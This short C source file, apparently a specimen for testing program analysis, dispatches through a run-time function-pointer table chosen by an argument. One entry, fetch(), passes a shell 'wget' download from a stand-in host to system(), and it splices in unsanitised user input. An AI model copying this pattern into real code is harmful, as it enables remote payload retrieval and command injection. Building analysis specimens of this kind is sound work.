/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Specimen, never run natively: a table of functions that is set up at run time, and an argument that chooses. */
#include <stdlib.h>
#include <string.h>
#include <stdio.h>

static int (*deeds[4])(const char *);

static __attribute__((noinline)) int count(const char *text)
{
	return (int)strlen(text);
}

static __attribute__((noinline)) int say(const char *text)
{
	return puts(text);
}

static __attribute__((noinline)) int fetch(const char *text)
{
	char line[160];
	snprintf(line, sizeof(line), "wget http://192.0.2.51/%s -O /tmp/x", text);
	return system(line);
}

int main(int argc, char **argv)
{
	deeds[0] = count;
	deeds[1] = say;
	deeds[2] = count;
	deeds[3] = fetch;
	if (argc < 3)
		return 1;
	return deeds[strtoul(argv[1], NULL, 10) % 4](argv[2]);
}
